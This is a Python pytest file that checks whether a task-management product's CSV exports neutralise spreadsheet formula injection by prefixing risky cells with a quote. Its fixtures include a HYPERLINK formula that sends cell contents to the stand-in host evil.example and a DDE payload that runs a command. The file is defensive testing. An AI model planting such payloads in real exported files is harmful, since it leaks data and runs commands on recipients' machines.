"""Every CSV the product writes is spreadsheet-safe: text a spreadsheet would evaluate starts with `'`
(the task report on both paths, the analytics tables, the stored exports), read back as text."""
import csv
import io
import uuid

import pytest

from db.models import Priority, Role
from reports import exports
from reports.csv_cells import FORMULA_STARTS, safe_cell

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
DESCRIPTION = "+cmd|' /C calc'!A0"
TAB_TEXT = "\t=1+1"
TAG = "@SUM(1+1)"
DEPARTMENT = "-2+3"


@pytest.fixture
def hostile(ctx, make_user, make_task):
    """A task and a department whose text a spreadsheet would run; a marker tag finds them."""
    marker = f"m{uuid.uuid4().hex[:10]}"
    manager = make_user(Role.MANAGER)
    agent = make_user(Role.AGENT, department=DEPARTMENT)
    make_task(manager, title=TITLE, description=DESCRIPTION, tags=[TAG, marker], assigned_to=agent.id,
              priority=Priority.HIGH)
    make_task(manager, title="Plain title", description=TAB_TEXT, tags=[marker], priority=Priority.LOW)
    return {"manager": manager, "marker": marker}


def _rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def _assert_safe(rows: list[dict]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (column, cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check_tasks(rows: list[dict]) -> None:
    _assert_safe(rows)
    by_title = {row["title"]: row for row in rows}
    hostile_row = by_title["'" + TITLE]
    assert hostile_row["description"] == "'" + DESCRIPTION
    assert hostile_row["tags"].startswith("'" + TAG)
    assert by_title["Plain title"]["description"] == "'" + TAB_TEXT


def test_the_task_report_csv_is_safe(client, hostile, auth_headers):
    response = client.get(f"/api/reports/tasks?format=csv&tag={hostile['marker']}",
                          headers=auth_headers(hostile["manager"]))
    assert response.status_code == 200
    _check_tasks(_rows(response.data))


def test_an_analytics_table_csv_is_safe(client, hostile, auth_headers):
    response = client.get("/api/reports/workload?format=csv&table=by_department",
                          headers=auth_headers(hostile["manager"]))
    assert response.status_code == 200
    rows = _rows(response.data)
    _assert_safe(rows)
    assert "'" + DEPARTMENT in {row["department"] for row in rows}


def test_stored_exports_are_safe(hostile):
    out = io.BytesIO()
    exports.write_csv(report="tasks", filters={"tag": hostile["marker"]}, out=out)
    _check_tasks(_rows(out.getvalue()))
    out = io.BytesIO()
    exports.write_csv(report="workload", filters={"table": "by_department"}, out=out)
    rows = _rows(out.getvalue())
    _assert_safe(rows)
    assert "'" + DEPARTMENT in {row["department"] for row in rows}


@pytest.mark.parametrize("text", ["=1", "+1", "-x", "@x", "\tx", "\rx"])
def test_each_formula_start_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "", "a=b", -3.5, 7, None])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value
